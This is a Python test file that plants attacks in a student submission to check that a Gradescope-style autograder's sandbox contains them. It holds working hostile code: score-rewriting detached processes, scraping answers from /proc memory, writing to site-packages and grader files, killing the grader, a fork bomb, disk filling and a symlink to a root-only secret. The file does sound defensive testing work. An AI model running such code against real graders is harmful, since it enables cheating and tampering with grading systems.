"""Submissions that attack the Gradescope autograder: each is our correct submission with an
attack planted in src/ (attention.py, dataset.py and model.py, so that every probe runs it), uploaded to run_autograder in a
Gradescope-shaped root, as root, as Gradescope runs it. Each attack reports what it did
to a drop file the test made (a line 'ran' first, so that an attack that never ran cannot
pass), and each test checks that the grader's results, files and answers are untouched:
results.json is the grader's and gives the honest score, the files in source/ are as
built, no answer reached the student's code, and no process of it outlives the grading.

Without root the grader cannot change user, and these tests are skipped. To see each
attack succeed against another grader (say, an older commit's), point HOSTILE_GRADER at
its grading/ folder: the bundle is then built with its gradescope.py.
"""

import hashlib
import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from conftest import NO_DATA, ROOT
from test_gradescope import gradescope_tree, run_autograder
from test_grading import make_submission

sys.path.insert(0, str(ROOT / 'grading'))
import editions  # noqa: E402
import sandbox  # noqa: E402

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith('linux') or os.geteuid() != 0,
    reason="the grader changes user only where it runs as root (as on Gradescope)",
)
GRADER = Path(os.environ.get('HOSTILE_GRADER', ROOT / 'grading'))
DISK_BUDGET = 160 * 2**20  # the guard's budget in these tests (GRADER_DISK_BUDGET)
SECRET = 'root-only-token-5e2f9c'  # in a file only root can read, as /etc/shadow

# Run in each process that imports model.py: report(line) appends to the drop file; once(name)
# is true in the first process of the grading to ask (the attacks that need one copy).
PRELUDE = '''
def _hostile():
    import json, os, re, signal, site, sys, time
    DROP = {drop!r}
    ROOT = os.environ.get('AUTOGRADER_ROOT', '/autograder')

    def report(line):
        with open(DROP, 'a') as f:
            f.write(line + '\\n')

    def once(name):
        marker = '/tmp/' + DROP.strip('/').replace('/', '_') + '.' + name
        try:
            os.close(os.open(marker, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666))
            return True
        except OSError:
            return False

    def detached():
        """True in a grandchild of this process in a session of its own; the caller's
        process goes on at once."""
        if os.fork():
            os.wait()
            return False
        os.setsid()
        if os.fork():
            os._exit(0)
        report(f'pid {{os.getpid()}}')
        return True

    def rewrite_results_later():
        results = os.path.join(ROOT, 'results', 'results.json')
        for _ in range(1200):
            time.sleep(0.05)
            if os.path.exists(results) and os.path.getsize(results) > 0:
                break
        time.sleep(1)
        try:
            with open(results, 'w') as f:
                json.dump(dict(score=999, execution_time=1, tests=[],
                               stdout_visibility='hidden'), f)
            report('rewrote results.json')
        except OSError as e:
            report(f'could not rewrite results.json: {{e}}')
'''

ATTACKS = {
    # the issue's: a process that outlives the grading and sets its own score
    'rewrite_results_later': '''
    report('ran')
    if detached():
        rewrite_results_later()
        os._exit(0)
    ''',
    # the answers: the file, any process's environ, cmdline and memory, the grader's folders
    'read_answers': r'''
    report('ran')
    if not once('read_answers'):
        return
    data = os.path.join(ROOT, 'source', 'data')
    with open(os.path.join(data, 'birth_test_inputs.tsv')) as f:
        questions = {line.strip().encode() for line in f}
    known = set()  # what the public files say already (some people are in both)
    for name in ['birth_places_train.tsv', 'birth_dev.tsv']:
        with open(os.path.join(data, name), 'rb') as f:
            known |= {line.rstrip(b'\n') for line in f}
    pattern = re.compile(rb'(Where was [^\x00\n\t]{1,100}\?)\t([^\x00\n\t]{1,60})')
    def look(where, data):
        for m in pattern.finditer(data):
            if m.group(1) in questions and m.group(0) not in known:
                report(f'got an answer from {where}: ' + m.group(0).decode(errors='replace'))
                return
    def read(path):
        try:
            with open(path, 'rb') as f:
                return f.read(50_000_000)
        except OSError:
            return b''
    # ROOT, and what this grading made in /tmp: a Gradescope container's /tmp holds nothing
    # else, and a test machine's holds other runs' files, which would spend the probe's 60 s
    since = os.stat(os.path.join(ROOT, 'submission')).st_mtime - 60
    tops = [ROOT] + [e.path for e in os.scandir('/tmp')
                     if e.stat(follow_symlinks=False).st_mtime >= since]
    for top in tops:
        report(f'read {top}')
        if os.path.isfile(top):
            look(top, read(top))
        for folder, _, files in os.walk(top):
            for name in files:
                if not os.path.join(folder, name).startswith(DROP):  # its own reports
                    look(os.path.join(folder, name), read(os.path.join(folder, name)))
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == os.getpid():
            continue
        look(f'/proc/{pid}/environ', read(f'/proc/{pid}/environ'))
        look(f'/proc/{pid}/cmdline', read(f'/proc/{pid}/cmdline'))
        try:
            maps = open(f'/proc/{pid}/maps').read().splitlines()
            mem = open(f'/proc/{pid}/mem', 'rb', 0)
        except OSError:
            continue
        for region in maps:
            span, perms = region.split()[:2]
            start, end = (int(x, 16) for x in span.split('-'))
            if perms.startswith('rw') and end - start < 2**28:
                try:
                    mem.seek(start)
                    look(f'/proc/{pid}/mem', mem.read(end - start))
                except (OSError, ValueError, OverflowError):
                    pass
    report('looked everywhere')
    ''',
    # the grader's own files, its data, its virtual environment, run_autograder, results/
    'write_grader_files': '''
    report('ran')
    targets = [os.path.join(ROOT, 'source', p) for p in
               ['grading/gradescope.py', 'data/wiki.txt', 'run_autograder', 'gradescope.json']]
    targets += [os.path.join(ROOT, 'results', 'planted.txt')]
    packages = site.getsitepackages()[0]
    targets += [os.path.join(packages, 'zz_hostile_planted.pth')]
    if not os.path.exists(os.path.join(packages, 'sitecustomize.py')):
        targets += [os.path.join(packages, 'sitecustomize.py')]
    for path in targets:
        try:
            with open(path, 'a') as f:
                f.write('\\n# planted\\n')
            report(f'wrote {path}')
        except OSError:
            pass
    ''',
    # the grader's main process (not the probes: they are the student's own score)
    'signal_grader': '''
    report('ran')
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            cmdline = open(f'/proc/{pid}/cmdline', 'rb').read()
            if b'gradescope.py' in cmdline:
                os.kill(int(pid), signal.SIGKILL)
                report(f'killed {pid}')
        except OSError:
            pass
    ''',
    # from a small Python of its own, which forks in a millisecond (a probe's takes 0.1 s)
    'fork_bomb': '''
    report('ran')
    if once('fork_bomb') and detached():
        bomb = [
            'import os, time',
            f'def report(line): open({DROP!r}, "a").write(line + "\\\\n")',
            'children = 0',
            'for _ in range(300):',
            '    try:',
            '        pid = os.fork()',
            '    except OSError:',
            '        break',
            '    if pid == 0:',
            '        time.sleep(120)',
            '        os._exit(0)',
            '    report(f"pid {pid}")',
            '    children += 1',
            'report(f"forked {children}")',
            'time.sleep(120)',
        ]
        os.execv(sys.executable, [sys.executable, '-c', '\\n'.join(bomb)])
    ''',
    'endless_print': '''
    report('ran')
    if once('endless_print') and detached():
        chunk = 'x' * (2**20 - 1) + '\\n'
        try:
            for mb in range(1, 513):  # bounded, for the grader that does not stop it
                sys.stdout.write(chunk)
                sys.stdout.flush()
                if mb % 32 == 0:
                    report(f'printed {mb} MB')
        except OSError as e:  # the file-size limit (Python ignores SIGXFSZ)
            report(f'stopped: {e}')
        os._exit(0)
    ''',
    'fill_disk': '''
    report('ran')
    if once('fill_disk') and detached():
        folder = '/tmp/hostile-fill-' + str(os.getpid())
        os.makedirs(folder)
        block = b'x' * 2**20
        report(f'filled 0 MB in {folder}')
        for mb in range(1, 1025):  # bounded, for the grader that does not stop it
            with open(os.path.join(folder, f'{mb // 32}'), 'ab') as f:
                f.write(block)
            if mb % 32 == 0:
                report(f'filled {mb} MB in {folder}')
        os._exit(0)
    ''',
    'hang_in_import': '''
    report('ran')
    if sys.argv[0] == 'span':  # the span-corruption probe only
        while True:
            time.sleep(1)
    ''',
    # ours: the predictions the grader is about to read, rewritten with the dev set's places
    'rewrite_predictions': '''
    report('ran')
    with open(os.path.join(ROOT, 'source', 'data', 'birth_dev.tsv')) as f:
        places = [line.rstrip('\\n').split('\\t')[1] for line in f]
    for top in ['/tmp', ROOT]:
        for folder, _, files in os.walk(top):
            for name in files:
                if name.endswith('.dev.predictions'):
                    try:
                        with open(os.path.join(folder, name), 'w') as f:
                            f.write(''.join(p + '\\n' for p in places))
                        report(f'rewrote {os.path.join(folder, name)}')
                    except OSError:
                        pass
    ''',
    # ours: a process that keeps moving to a new pid, which ending processes pid by pid misses
    'moving_process': '''
    report('ran')
    if once('moving_process') and detached():
        results = os.path.join(ROOT, 'results', 'results.json')
        for _ in range(2400):
            if os.fork():
                os._exit(0)
            time.sleep(0.025)
            if os.path.exists(results) and os.path.getsize(results) > 0:
                break
        report(f'pid {os.getpid()}')
        rewrite_results_later()
        os._exit(0)
    ''',
    # ours: the probe's log made a link to a file only root reads, which the grader quotes
    'link_the_log': '''
    report('ran')
    if sys.argv[0] != 'span':
        return
    for log in ['probe.log', '../probe.log']:
        try:
            os.unlink(log)
            os.symlink(os.path.join(ROOT, 'source', 'secret.txt'), log)
            report(f'linked {log}')
        except OSError:
            pass
    os._exit(3)  # the grader quotes the log's last line as the reason
    ''',
}
PLANTED_IN = ('attention.py', 'dataset.py', 'model.py')  # one of them runs in every probe
# What the honest grader gives each: full marks, or which tests the attack itself fails
LOSES = {
    'hang_in_import': '(e) span corruption',
    'link_the_log': '(e) span corruption',
    'rewrite_predictions': 'dev',
}
# they starve the submission's own probes, or fill the log they write to
MAY_LOSE = {'fork_bomb', 'fill_disk', 'endless_print'}


def planted(attack, drop):
    """The attack as code appended to model.py."""
    body = textwrap.indent(textwrap.dedent(ATTACKS[attack]).strip(), '    ')
    return (
        PRELUDE.format(drop=str(drop))
        + f"    try:\n{textwrap.indent(body, '    ')}\n"
        + "    except Exception as e:\n        report(f'failed: {type(e).__name__}: {e}')\n\n\n"
        + "import builtins  # noqa: E402\n\n"
        + "if not getattr(builtins, 'hostile_ran', False):  # once a process\n"
        + "    builtins.hostile_ran = True\n"
        + "    _hostile()\n"
    )


@pytest.fixture(scope='module')
def place(tmp_path_factory):
    """A folder every user may enter, as /autograder is (pytest's own are root's alone)."""
    if not (ROOT / 'data' / 'wiki.txt').exists():
        pytest.skip(NO_DATA)
    folder = Path(tempfile.mkdtemp(prefix='hostile-'))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture(scope='module')
def ours(place):
    return make_submission(place / 'ours')


@pytest.fixture(scope='module')
def bundle(ours, place):
    """The 2021 autograder with stand-in test answers (our own test predictions)."""
    questions = editions.read_lines(ROOT / 'data' / 'birth_test_inputs.tsv')
    places = editions.read_lines(ours / 'vanilla.pretrain.test.predictions')
    answers = place / 'answers.tsv'
    answers.write_text(''.join(f"{q}\t{p}\n" for q, p in zip(questions, places)))
    answers.chmod(0o600)  # the teacher's, which never enters the container but in the zip
    path = place / 'autograder.zip'
    command = [sys.executable, GRADER / 'gradescope.py', '--edition', '2021', '--out', path,
               '--answers', answers, '--data', ROOT / 'data']  # fmt: skip
    done = subprocess.run(list(map(str, command)), capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return path, [f"{q}\t{p}" for q, p in zip(questions, places)]


def snapshot(folder):
    return {
        p.relative_to(folder).as_posix(): hashlib.md5(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob('*'))
        if p.is_file() and '__pycache__' not in p.parts
    }


def alive(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            return 'zombie' not in f.read()
    except OSError:
        return False


@pytest.fixture
def graded(ours, bundle, place, grader_python, monkeypatch):
    """run_autograder on our submission with `attack` planted: (results, the drop's lines,
    the root)."""
    made = []

    def grade_with(attack):
        root = gradescope_tree(place / f"root-{attack}", bundle[0])
        (root / 'source' / 'secret.txt').write_text(f"{SECRET}\n")
        (root / 'source' / 'secret.txt').chmod(0o600)
        upload = root / 'submission' / 'a5'
        shutil.copytree(ours, upload)
        drop = place / f"drop-{attack}"
        drop.touch()
        drop.chmod(0o666)
        if attack == 'rewrite_predictions':  # its dev predictions all wrong, honestly
            for path in upload.glob('*.dev.predictions'):
                path.write_text('Nowhere\n' * len(editions.read_lines(path)))
        for module in PLANTED_IN:
            with open(upload / 'src' / module, 'a') as f:
                f.write('\n\n' + planted(attack, drop))
        before = snapshot(root / 'source')
        monkeypatch.setenv('GRADER_DISK_BUDGET', str(DISK_BUDGET))
        start = time.monotonic()
        results = run_autograder(root, grader_python)
        seconds = time.monotonic() - start
        time.sleep(3)  # what outlived the grading has had its chance
        results = json.loads((root / 'results' / 'results.json').read_text())
        lines = drop.read_text().splitlines()
        made.append(drop)
        after = snapshot(root / 'source')
        return dict(results=results, lines=lines, before=before, after=after, seconds=seconds)

    yield grade_with
    for drop in made:  # what a grader that does not guard let the attack leave
        lines = drop.read_text().splitlines()
        for marker in Path('/tmp').glob(str(drop).strip('/').replace('/', '_') + '.*'):
            marker.unlink()  # once()'s
        for line in lines:
            if line.startswith('wrote ') and 'site-packages' in line:
                Path(line.removeprefix('wrote ')).unlink(missing_ok=True)
            if line.startswith('filled '):
                shutil.rmtree(line.split(' in ')[-1], ignore_errors=True)
            if line.startswith('pid ') and alive(int(line.split()[1])):
                os.kill(int(line.split()[1]), 9)


@pytest.mark.slow
@pytest.mark.parametrize('attack', sorted(ATTACKS))
def test_an_attack_leaves_the_grading_as_it_would_be(attack, graded, bundle):
    run = graded(attack)
    results, lines = run['results'], run['lines']
    assert 'ran' in lines, lines  # the attack ran, in the submission's code
    failed = [line for line in lines if line.startswith('failed: ')]
    assert not failed, failed  # the attack's own code worked; the sandbox stopped it

    # results.json is the grader's: every test, and the score their sum
    names = [t['name'] for t in results['tests']]
    assert len(names) == len(set(names)) > 20, results
    assert results['score'] == sum(t['score'] for t in results['tests'])
    lost = {t['name'] for t in results['tests'] if t['score'] < t['max_score']}
    if attack in LOSES:
        assert lost and all(LOSES[attack] in name for name in lost), lost
    elif attack not in MAY_LOSE:
        assert not lost, {t['name']: t.get('output') for t in results['tests'] if t['name'] in lost}
    if attack == 'read_answers':  # it looked where the grader works
        assert any(line.startswith('read /tmp/grading-') for line in lines), lines

    # nothing reached, wrote or survived
    assert not [line for line in lines if line.startswith(('rewrote', 'wrote', 'killed'))]
    assert not [line for line in lines if line.startswith('got an answer')]
    assert SECRET not in json.dumps(results)
    assert run['after'] == {k: v for k, v in run['before'].items() if 'answers' not in k}
    pids = [int(line.split()[1]) for line in lines if line.startswith('pid ')]
    assert not [pid for pid in pids if alive(pid)], lines
    assert sandbox.Sandbox(pwd.getpwnam(sandbox.USER)).processes() == []
    assert not [p for p in Path('/tmp').glob('hostile-fill-*')], lines

    # the bounds on what the submission's processes write
    printed = [int(line.split()[1]) for line in lines if line.startswith('printed ')]
    assert max(printed, default=0) <= sandbox.MAX_FILE_SIZE // 2**20
    filled = [int(line.split()[1]) for line in lines if line.startswith('filled ')]
    assert max(filled, default=0) < 1024
    forked = [int(line.split()[1]) for line in lines if line.startswith('forked ')]
    assert max(forked, default=0) < sandbox.MAX_PROCESSES
    if attack == 'hang_in_import':  # the time limit of each probe (60 s) holds
        timed_out = [t.get('output', '') for t in results['tests'] if t['name'] in lost]
        assert timed_out and all('timed out after 60 s' in text for text in timed_out), timed_out
        assert run['seconds'] < 600, run['seconds']  # a grading that hangs fails, in time
    if attack in ('endless_print', 'fill_disk', 'fork_bomb'):
        assert printed or filled or forked, lines  # it got under way


@pytest.mark.slow
def test_the_teachers_command_as_root_runs_the_code_as_the_sandboxs_user(
    ours, place, grader_python
):
    """grade.py as root (a teacher's container): each probe's process is the sandbox's
    user's, with no other groups and the limits on, and the grades are the same."""
    submission = place / 'whoami'
    shutil.copytree(ours, submission)
    drop = place / 'drop-whoami'
    drop.touch()
    drop.chmod(0o666)
    with open(submission / 'src' / 'model.py', 'a') as f:
        f.write(
            "\n\nimport os as _os, resource as _resource  # noqa: E401,E402\n"
            f"with open({str(drop)!r}, 'a') as _f:\n"
            "    _f.write(f'{_os.getuid()} {_os.getgid()} {_os.getgroups()} '\n"
            "             f'{_resource.getrlimit(_resource.RLIMIT_NPROC)[0]}\\n')\n"
        )
    results = place / 'whoami.json'
    done = subprocess.run(
        [str(grader_python / 'bin' / 'python'), str(ROOT / 'grading' / 'grade.py'),
         str(submission), '--edition', '2021', '--json', str(results)],
        capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    tests = json.loads(results.read_text())['tests']
    assert [t['name'] for t in tests if t['status'] != 'passed'] == []
    user = pwd.getpwnam(sandbox.USER)
    seen = set(drop.read_text().splitlines())
    assert seen == {f"{user.pw_uid} {user.pw_gid} [] {sandbox.MAX_PROCESSES}"}, seen


def test_a_command_run_for_the_sandbox_is_the_users_within_the_limits(grader_python):
    """What grade.py --learning_check runs (sandbox.command_options): the user's uid and gid,
    no other groups, the limits, and no way back to root. The user is added as grade.py
    adds it (sandbox.current, in the grader's Python) where no earlier test has."""
    add_user = f"import sys; sys.path.insert(0, {str(ROOT / 'grading')!r}); import sandbox; sandbox.current()"
    subprocess.run([str(grader_python / 'bin' / 'python'), '-c', add_user], check=True)
    box = sandbox.Sandbox(pwd.getpwnam(sandbox.USER))
    code = (
        "import os, resource\n"
        "print(os.getresuid(), os.getresgid(), os.getgroups(),\n"
        "      resource.getrlimit(resource.RLIMIT_NPROC)[0],\n"
        "      open('/proc/self/oom_score_adj').read().strip())\n"
        "try:\n"
        "    os.setuid(0)\n"
        "except PermissionError:\n"
        "    print('no way back')\n"
    )
    done = subprocess.run(
        [str(grader_python / 'bin' / 'python'), '-c', code],
        capture_output=True, text=True, cwd='/', **box.command_options(seconds=60),
    )  # fmt: skip
    uid, gid = box.uid, box.gid
    assert done.stdout.split('\n')[:2] == [
        f"{(uid, uid, uid)} {(gid, gid, gid)} [] {sandbox.MAX_PROCESSES} 1000",
        'no way back',
    ], done.stderr
